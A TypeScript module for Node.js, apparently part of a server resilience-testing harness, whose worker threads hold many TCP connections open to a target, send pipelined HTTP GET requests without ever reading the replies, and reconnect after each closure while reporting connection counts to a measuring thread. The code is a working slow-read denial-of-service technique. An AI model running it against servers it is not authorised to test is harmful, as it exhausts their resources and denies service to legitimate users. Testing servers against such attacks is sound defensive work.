import { connect } from 'node:net';
import { setTimeout as pause } from 'node:timers/promises';
import { isMainThread, type MessagePort, parentPort, workerData } from 'node:worker_threads';
import { startClients } from './client-thread.ts';

interface Orders {
  url: string;
  connections: number;
  requestsEach: number;
}

interface Report {
  opened: number;
  closed: number;
}

/** Milliseconds until a disconnected client reconnects. */
const reconnectAfter = 15_000;

/** Maintains connections that send pipelined requests and never read. */
export const startPipelining = (orders: Orders) => startClients<Report>(import.meta.url, orders);

if (!isMainThread && parentPort) {
  attack(workerData, parentPort);
}

function attack({ url, connections, requestsEach }: Orders, measurer: MessagePort): void {
  const { hostname, port } = new URL(url);
  const requests = 'GET / HTTP/1.1\r\nHost: site.example\r\n\r\n'.repeat(requestsEach);
  const report: Report = { opened: 0, closed: 0 };
  for (let connection = 0; connection < connections; connection += 1) {
    keepSending();
  }
  measurer.on('message', () => measurer.postMessage(report));
  measurer.postMessage('started');

  async function keepSending(): Promise<void> {
    for (;;) {
      const socket = connect(Number(port), hostname, () => socket.write(requests));
      report.opened += 1;
      socket.on('error', () => undefined);
      // A socket that does not read only notices on write that it was closed.
      socket.pause();
      const probe = setInterval(() => socket.write('\r\n'), 1_000);
      await new Promise((resolve) => socket.once('close', resolve));
      clearInterval(probe);
      report.closed += 1;
      await pause(reconnectAfter);
    }
  }
}
